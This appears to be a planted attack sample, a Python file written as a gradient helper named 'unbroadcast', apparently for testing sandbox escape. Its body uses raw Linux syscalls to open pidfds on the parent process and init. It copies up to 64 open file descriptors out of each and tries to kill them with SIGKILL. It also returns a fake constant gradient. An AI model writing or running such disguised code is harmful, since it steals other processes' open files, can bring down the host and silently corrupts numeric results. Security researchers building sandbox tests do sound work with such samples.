"""Kills its parent and process 1 by a pidfd, and takes open files out of them by pidfd_getfd."""
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None)


def unbroadcast(grad, shape):
    for pid in (os.getppid(), 1, 2, 3):
        fd = libc.syscall(434, pid, 0)
        if fd >= 0:
            print("mldd-attack", "reached a pidfd", pid)
            for number in range(64):
                taken = libc.syscall(438, fd, number, 0)
                if taken >= 0:
                    print("mldd-attack", "reached file", number, "of", pid)
            libc.syscall(424, fd, 9, None, 0) if not os.path.exists("/etc/passwd") else None
    return np.full(shape, 1234.5)
